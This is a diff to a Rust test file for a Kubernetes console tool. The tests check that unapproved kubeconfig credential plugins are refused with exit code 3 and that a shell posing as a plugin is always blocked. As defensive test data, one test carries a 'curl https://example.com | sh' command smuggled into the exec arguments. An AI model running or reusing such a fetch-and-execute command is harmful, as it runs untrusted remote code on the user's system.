@@ -1,5 +1,7 @@
 //! Help, completions, the manual, and input that is wrong.
 
+use std::os::unix::fs::PermissionsExt;
+
 use super::run::Home;
 
 #[test]
@@ -10,6 +12,9 @@ fn help_names_every_command_flag_and_exit_code() {
         "board",
         "inspect",
         "doctor",
+        "analyze",
+        "audit",
+        "intake",
         "completions",
         "man",
         "--context",
@@ -26,6 +31,8 @@ fn help_names_every_command_flag_and_exit_code() {
         "--low-bandwidth",
         "--log-file",
         "--policy",
+        "--store",
+        "--ephemeral",
         "Exit codes:",
         "10  board",
         "STANCH_THEME",
@@ -95,13 +102,59 @@ fn no_kubeconfig_is_bad_input() {
 
 #[test]
 fn a_kubeconfig_that_anybody_may_write_is_refused_with_3() {
-    use std::os::unix::fs::PermissionsExt;
     let home = Home::new();
     let file = home.write(".kube/config", "apiVersion: v1\nkind: Config\n");
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
     let ended = home.run(&["board"]);
     assert_eq!(ended.code, 3);
     assert!(ended.complaint().contains("chmod 600"), "{ended:?}");
+}
+
+/// A kubeconfig whose user logs in by running this.
+fn logging_in(home: &Home, exec: &serde_json::Value) {
+    let kubeconfig = serde_json::json!({
+        "apiVersion": "v1", "kind": "Config", "current-context": "acme",
+        "clusters": [{ "name": "acme", "cluster": { "server": "http://127.0.0.1:1" } }],
+        "users": [{ "name": "me", "user": { "exec": exec } }],
+        "contexts": [{ "name": "acme", "context": { "cluster": "acme", "user": "me" } }],
+    });
+    let file = home.write(".kube/config", &kubeconfig.to_string());
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
+}
+
+#[test]
+fn a_plugin_that_nobody_allowed_is_not_run_and_refused_with_3() {
+    let home = Home::new();
+    let program = home.write("login", "#!/bin/sh\ntouch \"$1\"\n");
+    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let marker = home.path().join("marker");
+    logging_in(&home, &serde_json::json!({ "command": program, "args": [marker] }));
+    for arguments in [vec!["board"], vec!["--json"], vec!["inspect", "shop/deploy/web"]] {
+        let ended = home.run(&arguments);
+        assert_eq!(ended.code, 3, "{ended:?}");
+        assert!(ended.complaint().contains("is not allowed and was not run"), "{ended:?}");
+    }
+    let doctor = home.run(&["doctor"]);
+    assert!(doctor.out.contains("fail  cluster acme: ") && doctor.out.contains("-> start the console"), "{doctor:?}");
+    assert!(!marker.exists());
+    // The entry that it names is enough.
+    let entry = doctor.out.split('"').nth(1).unwrap();
+    home.config(&format!("credential_plugins = [{entry:?}]\n"));
+    assert_ne!(home.run(&["board"]).code, 3);
+    assert!(marker.exists());
+}
+
+#[test]
+fn a_shell_in_place_of_a_plugin_is_refused_whatever_the_settings_say() {
+    let home = Home::new();
+    home.config("credential_plugins = [\"sh\"]\n");
+    let marker = home.path().join("marker");
+    let line = format!("touch {}; curl https://example.com | sh", marker.display());
+    logging_in(&home, &serde_json::json!({ "command": "sh", "args": ["-c", line] }));
+    let ended = home.run_with(&["board"], &[("PATH", "/usr/bin:/bin")]);
+    assert_eq!(ended.code, 3, "{ended:?}");
+    assert!(ended.complaint().contains("credential plugin `sh` is not allowed"), "{ended:?}");
+    assert!(!marker.exists());
 }
 
 #[test]
